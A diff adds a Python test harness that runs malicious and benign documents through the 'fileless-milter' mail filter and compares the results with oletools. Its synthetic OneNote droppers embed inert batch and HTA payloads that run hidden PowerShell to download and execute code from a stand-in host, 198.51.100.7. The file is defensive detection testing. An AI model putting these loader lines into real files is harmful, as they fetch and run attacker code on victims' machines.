@@ -1,0 +1,273 @@
+#!/usr/bin/env python3
+"""maldocs/run.py - malicious documents per type through `fileless-milter -t --json`.
+
+Sets (each skipped cleanly when absent):
+  - real samples of tests/corpus/maldocs/MANIFEST, fetched by tests/maldocs/fetch.sh into
+    build/maldocs/docs (never executed, never in the repository);
+  - oletools test data in ../shared/corpus: the obfuscated Equation carrier
+    rtfobj/issue_251.rtf, DDE samples, external-link (remote oleObject) samples;
+  - OneNote droppers and benign notebooks built here from ClamAV's clam.exe.2007.one
+    (the embedded PE replaced by an inert script, or by text, or no embedded file);
+  - benign documents: office-apache-poi, office-xlsxwriter-vba, oletools harmless-clean*.
+Each document is wrapped in a mail. caught = quarantine or reject. mraptor and rtfobj
+(a fetched oletools checkout in build/oletools run with Debian's /usr/bin/python3 and
+python3-olefile) are compared where they run.
+
+Checks (the issue's "done when"): every VBA document mraptor flags is caught; RTF exploit
+carriers and OneNote droppers are caught; no benign document or notebook reaches
+quarantine; benign notebooks are not tagged. Writes tests/out/maldocs.md.
+Prints "@@ maldocs passed=N failed=M skipped=K".
+"""
+import base64, glob, json, os, re, subprocess, sys, tempfile
+
+ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+os.chdir(ROOT)
+BIN = os.environ.get("FM_BIN", "milter/fileless-milter")
+CORPUS = os.environ.get("FM_CORPUS", "../shared/corpus")
+MAL = os.environ.get("FM_MALDOCS", "build/maldocs") + "/docs"
+OLETOOLS = os.environ.get("FM_OLETOOLS", "build/oletools")
+OLETOOLS_GIT = os.environ.get("FM_OLETOOLS_GIT", "/work/.mirror/decalage2+oletools/repo")
+R = {"passed": 0, "failed": 0, "skipped": 0}
+ORDER = {"clean": 0, "tag": 1, "quarantine": 2, "reject": 3}
+VBA_TYPES = ("doc", "xls", "docx", "xlsx", "docm", "xlsm", "dotm", "xlsb", "ppt", "pptm")
+
+
+def check(name, cond, why=""):
+    R["passed" if cond else "failed"] += 1
+    print(("ok   %s" if cond else "FAIL %s: " + str(why)) % name)
+
+
+def skip(name, why):
+    R["skipped"] += 1
+    print("skip %s: %s" % (name, why))
+
+
+def attach(name, data):
+    b64 = base64.encodebytes(data).decode().replace("\n", "\r\n")
+    return ("From: a@example.org\r\nTo: b@example.net\r\nSubject: document\r\nMIME-Version: 1.0\r\n"
+            "Content-Type: multipart/mixed; boundary=BB\r\n\r\n--BB\r\nContent-Type: text/plain\r\n\r\n"
+            "Please see the attached document.\r\n--BB\r\nContent-Type: application/octet-stream; "
+            "name=\"%s\"\r\nContent-Disposition: attachment; filename=\"%s\"\r\n"
+            "Content-Transfer-Encoding: base64\r\n\r\n%s--BB--\r\n" % (name, name, b64)).encode()
+
+
+def scan(items, tmp):
+    """items: (name, bytes) -> list of (verdict, score, symbols)"""
+    paths = []
+    for i, (name, data) in enumerate(items):
+        p = os.path.join(tmp, "m%d.eml" % i)
+        with open(p, "wb") as f:
+            f.write(attach(name, data))
+        paths.append(p)
+    out = []
+    for i in range(0, len(paths), 40):
+        p = subprocess.run([BIN, "-c", "milter.conf", "-t", "--json"] + paths[i:i + 40],
+                           capture_output=True, text=True)
+        for line in p.stdout.split("\n"):
+            if line.strip():
+                o = json.loads(line)
+                out.append((o["verdict"], o["score"], sorted(set(h["symbol"] for h in o["hits"]))))
+    return out
+
+
+# ---- OneNote samples built from ClamAV's notebook ----
+FDSO_H = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
+FDSO_F = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")
+
+
+def one_variant(base, content, old_name, new_name):
+    """the notebook with its MZ blob replaced by content and the UTF-16 name renamed"""
+    i = base.find(FDSO_H)
+    while i >= 0:
+        n = int.from_bytes(base[i + 16:i + 24], "little")
+        if base[i + 36:i + 38] == b"MZ":
+            end = i + ((36 + n + 7) & ~7) + 16
+            blob = b""
+            if content is not None:
+                ln = len(content)
+                blob = (FDSO_H + ln.to_bytes(8, "little") + bytes(12) + content +
+                        bytes(((36 + ln + 7) & ~7) - 36 - ln) + FDSO_F)
+            out = base[:i] + blob + base[end:]
+            return out.replace(old_name.encode("utf-16le"), new_name.encode("utf-16le"))
+        i = base.find(FDSO_H, i + 16)
+    return None
+
+
+def onenote_sets():
+    src = os.path.join(CORPUS, "clamav-unittest-input/scanfiles_decoded/clam.exe.2007.one")
+    if not os.path.exists(src):
+        return [], []
+    base = open(src, "rb").read()
+    cmd = (b"@echo off\r\nrem INERT test sample built by tests/maldocs/run.py; never executed\r\n"
+           b"powershell -w hidden -nop -c \"iwr http://198.51.100.7/p.ps1 -o %TEMP%\\p.ps1\"\r\n"
+           b"start /min cmd /c %TEMP%\\p.ps1\r\n")
+    hta = (b"<html><head><hta:application id=\"x\" windowstate=\"minimize\"/></head><body>"
+           b"<script language=\"VBScript\">' INERT test sample built by tests/maldocs/run.py\r\n"
+           b"Set s = CreateObject(\"WScript.Shell\")\r\n"
+           b"s.Run \"powershell -w hidden -c iex (iwr http://198.51.100.7/a)\", 0\r\n"
+           b"self.close</script></body></html>\r\n")
+    mal = [("one", "clam.exe.2007.one (embedded PE)", base),
+           ("one", "synthetic .one with Invoice.cmd", one_variant(base, cmd, "clam.exe", "clam.cmd")),
+           ("one", "synthetic .one with Invoice.hta", one_variant(base, hta, "clam.exe", "clam.hta"))]
+    ben = [("one", "notebook with an embedded text file",
+            one_variant(base, b"Minutes of the meeting\r\nAll fine.\r\n" * 20, "clam.exe", "clam.txt")),
+           ("one", "notebook without embedded files", one_variant(base, None, "clam.exe", "clam.txt"))]
+    return [m for m in mal if m[2]], [b for b in ben if b[2]]
+
+
+def ext_of(path):
+    e = path.rsplit(".", 1)[-1].lower()
+    return {"dot": "doc", "xlt": "xls", "xltm": "xlsm", "dotm": "docm"}.get(e, e)
+
+
+def sets():
+    """(type, name, bytes) for malicious and benign documents"""
+    mal, ben = [], []
+    for f in sorted(glob.glob(MAL + "/*")):
+        t = ext_of(f)
+        if t in ("doc", "xls", "docx", "xlsx", "rtf", "one"):
+            mal.append((t, f, open(f, "rb").read()))
+    o = os.path.join(CORPUS, "oletools/test-data")
+    for f in [o + "/rtfobj/issue_251.rtf"]:
+        if os.path.exists(f):
+            mal.append(("rtf", f, open(f, "rb").read()))
+    for f in sorted(glob.glob(o + "/msodde/dde-*")):
+        if not f.endswith(".zip"):
+            mal.append(("dde", f, open(f, "rb").read()))
+    for f in sorted(glob.glob(o + "/oleobj/external_link/*.docx") + glob.glob(o + "/oleobj/external_link/*.xlsx")):
+        mal.append(("remote", f, open(f, "rb").read()))
+    om, ob = onenote_sets()
+    mal += om
+    ben += ob
+    for pat in ["office-apache-poi/**/*", "office-xlsxwriter-vba/**/*.xlsm", "oletools/test-data/**/harmless-clean*"]:
+        for f in sorted(glob.glob(os.path.join(CORPUS, pat), recursive=True)):
+            t = ext_of(f)
+            if os.path.isfile(f) and t in VBA_TYPES + ("rtf", "one", "xml") and "password" not in f.lower() \
+                    and "protect" not in f.lower() and "encrypt" not in f.lower():
+                ben.append((t, f, open(f, "rb").read()))
+    return mal, ben
+
+
+def oletools_ready():
+    if os.path.exists(OLETOOLS + "/oletools/mraptor.py"):
+        return True
+    if not os.path.isdir(OLETOOLS_GIT):
+        return False
+    os.makedirs(OLETOOLS, exist_ok=True)
+    return subprocess.run(["git", "--git-dir=" + OLETOOLS_GIT, "--work-tree=" + OLETOOLS, "checkout", "-f",
+                           "HEAD", "--", "oletools"], capture_output=True).returncode == 0
+
+
+def run_tool(mod, paths):
+    """oletools module over files: path -> its output lines (mraptor: one table row per
+    file, run in batches; rtfobj: one run per file)"""
+    env = dict(os.environ, PYTHONPATH=OLETOOLS)
+    res = {}
+    step = 60 if mod == "mraptor" else 1
+    for i in range(0, len(paths), step):
+        batch = paths[i:i + step]
+        try:
+            r = subprocess.run(["/usr/bin/python3", "-m", "oletools." + mod] + batch, capture_output=True,
+                               text=True, env=env, timeout=600)
+            out = r.stdout + r.stderr
+        except subprocess.TimeoutExpired:
+            out = ""
+        for p in batch:
+            res[p] = "\n".join(l for l in out.split("\n") if p in l) if step > 1 else out
+    return res
+
+
+def main():
+    if not os.access(BIN, os.X_OK):
+        print("@@ maldocs passed=0 failed=1 skipped=0 (no %s)" % BIN)
+        return 1
+    mal, ben = sets()
+    if not mal:
+        skip("maldocs", "no samples (run tests/maldocs/fetch.sh; ../shared/corpus absent?)")
+        print("@@ maldocs passed=0 failed=0 skipped=1")
+        return 0
+    tmp = tempfile.mkdtemp(prefix="fm-maldocs-")
+    rm = scan([(os.path.basename(n).replace(" ", "_") if "/" in n else n.split()[-1], d) for t, n, d in mal], tmp)
+    rb = scan([(os.path.basename(n) if "/" in n else "notebook.one", d) for t, n, d in ben], tmp)
+    mr, rt = {}, {}
+    have_ole = oletools_ready() and subprocess.run(["/usr/bin/python3", "-c", "import olefile, colorclass"],
+                                                   capture_output=True).returncode == 0
+    if have_ole:
+        vba = [n for t, n, d in mal if t in ("doc", "xls", "docx", "xlsx") and os.path.exists(n)]
+        cache = os.path.join(os.path.dirname(MAL), "mraptor.tsv")  # results per file, kept
+        if os.path.exists(cache):
+            for line in open(cache):
+                p, v = line.rstrip("\n").split("\t")
+                mr[p] = v == "1"
+        todo = [p for p in vba if p not in mr]
+        for p, out in run_tool("mraptor", todo).items():
+            mr[p] = "SUSPICIOUS" in out
+        if todo and os.path.isdir(os.path.dirname(cache)):
+            with open(cache, "w") as f:
+                f.writelines("%s\t%d\n" % (p, v) for p, v in mr.items())
+        rtf = [n for t, n, d in mal if t == "rtf" and os.path.exists(n)]
+        for p, out in run_tool("rtfobj", rtf).items():
+            rt[p] = "exploit" in out.lower() or "equation" in out.lower()
+    else:
+        skip("mraptor/rtfobj", "oletools checkout or python3-olefile/python3-colorclass unavailable")
+    # per-type table
+    types = {}
+    for (t, n, d), (v, s, syms) in zip(mal, rm):
+        e = types.setdefault(t, {"n": 0, "caught": 0, "tag": 0, "clean": 0, "mr": 0, "mr_caught": 0,
+                                 "rt": 0, "miss": []})
+        e["n"] += 1
+        e["caught" if ORDER[v] >= 2 else "tag" if v == "tag" else "clean"] += 1
+        if mr.get(n):
+            e["mr"] += 1
+            e["mr_caught"] += ORDER[v] >= 2
+        if rt.get(n):
+            e["rt"] += 1
+        if ORDER[v] < 2:
+            e["miss"].append("%s %s %.1f %s" % (os.path.basename(n), v, s, " ".join(syms)))
+    bt = {}
+    for (t, n, d), (v, s, syms) in zip(ben, rb):
+        e = bt.setdefault(t, {"n": 0, "tag": 0, "q": 0, "fp": []})
+        e["n"] += 1
+        e["tag"] += ORDER[v] >= 1
+        e["q"] += ORDER[v] >= 2
+        if ORDER[v] >= 1:
+            e["fp"].append("%s %s %.1f %s" % (os.path.basename(n) if "/" in n else n, v, s, " ".join(syms)))
+    md = ["# Malicious documents per type (tests/maldocs/run.py)", "",
+          "caught = quarantine or reject; mraptor/rtfobj: oletools %s" % ("run" if have_ole else "not available"),
+          "", "| type | files | caught | tagged | clean | mraptor flags | of those caught | rtfobj flags |",
+          "|---|---|---|---|---|---|---|---|"]
+    for t, e in sorted(types.items()):
+        md.append("| %s | %d | %d | %d | %d | %s | %s | %s |" % (
+            t, e["n"], e["caught"], e["tag"], e["clean"], e["mr"] if have_ole and t not in ("rtf", "one", "dde", "remote") else "–",
+            e["mr_caught"] if have_ole and t not in ("rtf", "one", "dde", "remote") else "–",
+            e["rt"] if have_ole and t == "rtf" else "–"))
+    md += ["", "Benign documents:", "", "| type | files | tag or above | quarantine or above |", "|---|---|---|---|"]
+    for t, e in sorted(bt.items()):
+        md.append("| %s | %d | %d | %d |" % (t, e["n"], e["tag"], e["q"]))
+    md += ["", "## Not caught (malicious)", ""] + ["- " + m for e in types.values() for m in e["miss"]]
+    md += ["", "## Benign at tag or above", ""] + ["- " + m for e in bt.values() for m in e["fp"]]
+    os.makedirs("tests/out", exist_ok=True)
+    with open("tests/out/maldocs.md", "w") as f:
+        f.write("\n".join(md) + "\n")
+    print("\n".join(md[:40]))
+    # checks
+    for t, e in sorted(types.items()):
+        if have_ole and t in ("doc", "xls", "docx", "xlsx"):
+            check("%s: every document mraptor flags is caught (%d of %d)" % (t, e["mr_caught"], e["mr"]),
+                  e["mr_caught"] == e["mr"], "; ".join(e["miss"][:5]))
+        if t in ("rtf", "one"):
+            check("%s: every carrier/dropper is caught (%d of %d)" % (t, e["caught"], e["n"]),
+                  e["caught"] == e["n"], "; ".join(e["miss"][:5]))
+    for t, e in sorted(bt.items()):
+        check("benign %s: none at quarantine (%d of %d)" % (t, e["q"], e["n"]), e["q"] == 0,
+              "; ".join(e["fp"][:5]))
+        if t == "one":
+            check("benign notebooks: none tagged (%d of %d)" % (e["tag"], e["n"]), e["tag"] == 0,
+                  "; ".join(e["fp"]))
+    subprocess.run(["rm", "-rf", tmp])
+    print("@@ maldocs passed=%d failed=%d skipped=%d" % (R["passed"], R["failed"], R["skipped"]))
+    return 1 if R["failed"] else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
